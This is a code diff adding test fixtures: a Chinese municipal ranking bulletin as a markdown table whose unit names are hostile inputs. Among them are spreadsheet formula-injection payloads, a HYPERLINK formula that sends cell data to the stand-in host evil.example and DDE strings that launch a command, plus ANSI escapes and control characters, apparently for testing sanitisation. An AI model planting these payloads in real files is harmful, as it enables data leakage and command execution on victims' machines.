@@ -164,10 +164,30 @@ def hostile_inbox(folder: Path, outside: Path) -> dict[str, Path]:
     return made
 
 
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "市[/]教育局[bold]",
+    "\x1b[31m市公安局\x1b]0;owned\x07",
+    "市民政局\x01\x02",
+]
+
+
+def hostile_names_bulletin() -> bytes:
+    """A bulletin (markdown table) whose unit names are formulas, rich
+    markup, ANSI escapes and control characters."""
+    rows = "".join(f"| {i} | {name} | {10 * i} | {5 * i} | {50 * i} |\n" for i, name in enumerate(HOSTILE_NAMES, 1))
+    return ("# 关于2020年第四季度市政府网站信息采用情况的通报\n"
+            "各单位向市政府网站共报送信息210条,采用105条。\n吉林市政务服务和数字化建设管理局\n2021年1月10日\n\n"
+            "| 排名 | 单位 | 本季度报送 | 本季度采用 | 本季度得分 |\n|---|---|---|---|---|\n" + rows).encode("utf-8")
+
+
 # Small enough to commit (each a few KB); the rest are built at test time.
 COMMITTED = {
     "synthetic_operator_fan_out.pdf": operator_fan_out,
     "synthetic_lying_page_count.pdf": lambda: lying_page_count(2000),
+    "synthetic_hostile_names.md": hostile_names_bulletin,
 }
 
 
